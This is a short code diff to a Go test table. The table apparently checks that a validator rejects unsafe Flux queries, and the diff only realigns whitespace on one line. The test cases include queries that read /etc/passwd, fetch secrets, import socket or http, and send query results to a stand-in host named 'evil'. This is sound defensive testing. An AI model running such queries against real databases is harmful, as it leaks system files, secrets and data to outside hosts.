@@ -36,7 +36,7 @@ csv.from(file: "/etc/passwd")`: `"csv"`,
 		`import "influxdata/influxdb/secrets"
 secrets.get(key: "k")`: `secrets`,
 		`import "socket"`: `"socket"`,
-		`from(bucket: "b", host: "http://evil:8086", token: "t") |> range(start: -1h)`:            `host:`,
+		`from(bucket: "b", host: "http://evil:8086", token: "t") |> range(start: -1h)`:               `host:`,
 		`from(bucket: "b") |> range(start: -1h) |> to(bucket: "x", host: "http://evil", token: "t")`: `host:`,
 		`x = 1
 import "http"`: `top`,
